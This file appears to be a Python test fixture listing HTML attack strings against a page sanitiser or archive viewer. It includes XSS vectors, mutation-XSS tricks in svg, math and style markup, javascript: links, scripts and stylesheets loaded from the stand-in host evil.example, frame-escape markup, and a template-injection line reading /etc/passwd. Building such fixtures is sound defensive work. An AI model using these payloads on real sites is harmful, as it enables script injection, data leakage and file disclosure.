"""What a page can try: to run, to load, to frame, to navigate, to leave the frame it is shown in. `逃` is said by each, and may be read inside the frame alone."""

from __future__ import annotations

AWAY = "http://evil.example"
SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"
HEAD = (
    f'<base href="{AWAY}/" target="_top"><meta http-equiv="refresh" content="0;url={AWAY}/r"><META HTTP-EQUIV=ReFresh CONTENT="0; URL=data:text/html,{SCRIPT}">'
    f'<meta http-equiv="Set-Cookie" content="lang=zz"><meta http-equiv="Content-Security-Policy" content="default-src *">'
    f'<link rel="stylesheet" href="{AWAY}/s.css"><link rel="preload" as="image" href="{AWAY}/l.png"><link rel="prefetch" href="{AWAY}/l">'
    f'<link rel="dns-prefetch" href="{AWAY}"><link rel="modulepreload" href="{AWAY}/l.js"><link rel="import" href="{AWAY}/l.html"><link rel="manifest" href="{AWAY}/m">'
    f'<style>@import "{AWAY}/i.css"; @font-face {{ font-family: x; src: url({AWAY}/f.otf) }} body {{ background: url({AWAY}/b.png) }}</style>'
    f'<script src="{AWAY}/x.js"></script><script type="module">import "{AWAY}/y.js"</script><script type="speculationrules">{{"prefetch":[{{"urls":["{AWAY}/z"]}}]}}</script>'
)
RUNNING = {
    "script": SCRIPT,
    "script, odd case": "<ScRiPt\t>alert(1)</sCrIpT\n>",
    "script in halves": "<scr<script>ipt>alert(1)</script>",
    "script behind a NUL": "<scr\0ipt>alert(1)</scr\0ipt>",
    "script with a name space": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "script as entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;alert(1)&#x3c;/script>",
    "script in CDATA": f"<![CDATA[{SCRIPT}]]>",
    "script behind a comment that ends at once": f"<!-->{SCRIPT}--><!--->{SCRIPT}<!-- --!>{SCRIPT}-->",
    "conditional comment": f"<!--[if IE]>{SCRIPT}<![endif]--><![if !IE]>{SCRIPT}<![endif]>",
    "processing instruction": f'<?xml-stylesheet type="text/xsl" href="{AWAY}/x.xsl"?><?php {SCRIPT} ?>',
    "handlers": "<p onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</p><body onload=alert(1) onpageshow=alert(1)>",
    "handlers of what moves": "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "handlers of what fades": "<p style='animation:x 1s' onanimationstart=alert(1)>x</p><p style='transition:1s' ontransitionend=alert(1)>x</p>",
    "handler behind a slash": "<img/src=x/onerror=alert(1)><svg/onload=alert(1)></svg>",
    "handler in a quote that does not end": '<img src="x" title="a" b=\'"><img src=x onerror=alert(1)>\'>',
    "picture": f'{IMAGE}<img src="{AWAY}/i.png"><img srcset="{AWAY}/i1.png 1x, {AWAY}/i2.png 2x"><img src=data:image/svg+xml,<svg/onload=alert(1)>>',
    "picture of several": f'<picture><source srcset="{AWAY}/p.webp"><img src="{AWAY}/p.png" loading=eager></picture><image src="{AWAY}/i.png">',
    "media": f'<video src="{AWAY}/m.mp4" poster="{AWAY}/m.png" autoplay onloadstart=alert(1)><source src="{AWAY}/m"><track src="{AWAY}/t" default></video>'
    f'<audio src="{AWAY}/m.mp3" autoplay onerror=alert(1)></audio><bgsound src="{AWAY}/b.mid">',
    "old backgrounds": f'<table background="{AWAY}/t.png"><tr><td background="{AWAY}/d.png">x</td></tr></table>',
    "style": f'<p style="background:url({AWAY}/c.png)">x</p><p style="background:u\\72l(\'{AWAY}/d.png\');behavior:url({AWAY}/e.htc);width:expression(alert(1))">x</p>'
    f"<p style=\"list-style:image-set('{AWAY}/f.png' 1x);-moz-binding:url({AWAY}/g.xml#x);position:fixed;inset:0;z-index:9\">x</p>",
    "style in the body": f'<style>@import url({AWAY}/i.css);.archived{{background:url({AWAY}/s.png)}}</style><style>@\\69mport "{AWAY}/j.css";</style>',
    "style that ends in an attribute": f'<style><p title="</style>{IMAGE}">',
}
"""What would run or load."""
FRAMING = {
    "frame in line": f'<iframe src="{AWAY}/f" srcdoc="{SCRIPT}"></iframe><iframe src="javascript:alert(1)"></iframe><iframe src="data:text/html,{SCRIPT}"></iframe>',
    "frame set": f'<frameset onload=alert(1)><frame src="{AWAY}/g"><noframes>{SCRIPT}</noframes></frameset>',
    "object": f'<object data="{AWAY}/o" onerror=alert(1)><param name=src value="{AWAY}/q">{SCRIPT}</object><object data="data:text/html,{SCRIPT}"></object>',
    "embed": f'<embed src="{AWAY}/e"><embed src="data:image/svg+xml,<svg onload=alert(1)>"><applet code=x archive="{AWAY}/a.jar"></applet>',
    "portal": f'<portal src="{AWAY}/p"></portal><fencedframe src="{AWAY}/h"></fencedframe>',
    "form": f'<form action="{AWAY}/p" id=f><button autofocus>x</button><input type=image src="{AWAY}/n.png"><input name=q formaction="{AWAY}"></form>'
    f'<button form=f formaction="javascript:alert(1)">x</button><isindex action="javascript:alert(1)" type=image><keygen autofocus onfocus=alert(1)>',
    "link": f'<a href="javascript:alert(5)" onclick="alert(6)" ping="{AWAY}/k">x</a><a href="{AWAY}" target=_top>y</a><map><area shape=default href="javascript:alert(1)"></map>',
    "link, odd case": '<a href="JaVaScRiPt:alert(1)">x</a><a href=" &#14; javascript:alert(1)">x</a><a href="java&#10;script:alert(1)">x</a><a href="vbscript:x">x</a>',
    "link as entities": '<a href="javascript&colon;alert(1)">x</a><a href="&#106;&#x61;vascript&#0000058;alert(1)">x</a><a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "popover": "<div popover id=o onbeforetoggle=alert(1)>x</div><button popovertarget=o>x</button><dialog open>x</dialog><slot name=x>y</slot>",
    "refresh in the body": f'<meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href="{AWAY}/"><link rel=stylesheet href="{AWAY}/s.css">',
}
"""What would frame or navigate."""
FOREIGN = {
    "svg": f'<svg onload="alert(3)"><image href="{AWAY}/v.png" xlink:href="{AWAY}/w.png"/><script>alert(1)</script><use href="{AWAY}/u.svg#x"/></svg>',
    "svg that moves": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a><set attributeName=onmouseover to=alert(1) onbegin=alert(1)></svg>",
    "svg with HTML in it": f"<svg><foreignObject>{IMAGE}<iframe src=javascript:alert(1)></iframe></foreignObject><desc>{IMAGE}</desc><title>{IMAGE}</title></svg>",
    "svg with a style": f'<svg><style>@import "{AWAY}/i.css";</style><style>&lt;/style>{IMAGE}</style><p><style><g title="</style>{IMAGE}"></p></svg>',
    "svg that HTML ends": f'<svg></p><style><a id="</style>{IMAGE}"></a></style></svg>',
    "math": '<math href="javascript:alert(1)"><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
    "math with HTML in it": f"<math><mtext><table><mglyph><style>{IMAGE}</style></mglyph></table></mtext></math>",
    "math with a comment": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{IMAGE}">',
    "math as HTML": f'<math><annotation-xml encoding="text/html"><style>{IMAGE}</style>{SCRIPT}</annotation-xml></math>',
    "forms in math": f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}</style></mglyph></form></mtext></math>",
    "template": f"<template>{IMAGE}<template shadowrootmode=open>{SCRIPT}</template></template><div><template shadowrootmode=open><slot></slot>{IMAGE}</template></div>",
    "noscript": f'<noscript><p title="</noscript>{IMAGE}">x</p></noscript><noembed><p title="</noembed>{IMAGE}"></noembed>',
    "text that is no text": f'<textarea><p title="</textarea>{IMAGE}"></textarea><title><p title="</title>{IMAGE}"></title><xmp><p title="</xmp>{IMAGE}"></xmp>',
    "choice": f"<select><option>x<style></select>{IMAGE}</style></option></select><listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "template of the server": "{{ 7*7 }}{% raw %}{% include '/etc/passwd' %}${7*7}<%= 7*7 %>",
}
"""What changes its meaning when it is read twice, and what stands in another language."""
LEAVING = {
    "ends": "</td></tr></table></p></section></div></main></body></html>",
    "table in a table": "<table><div><table>x</table></div></table></div>逃<div>",
    "row in a caption": "<table><caption><div><tr><td>x</td></tr></div></caption></table>逃",
    "cell in a block in a cell": "<table><tr><td><div><td>x</td></div></td></tr></table>逃",
    "paragraph around a table": "<p><table><tr><td><p></table></p></td></tr></p>逃",
    "blocks in letters": "<b><p><i><div></b>逃</p></i></div><b><table><b><tr><b><td>逃</b></td></table>",
    "list in a list": "<ul><li><table><li>x</table></li></ul></ul>逃",
    "anchors": '<div id="marked" class="archived">逃</div><p id=content>逃</p><a name=marked>x</a>',
}
"""What would end the frame that it is shown in, or stand for what is ours."""
TRIED = RUNNING | FRAMING | FOREIGN | LEAVING
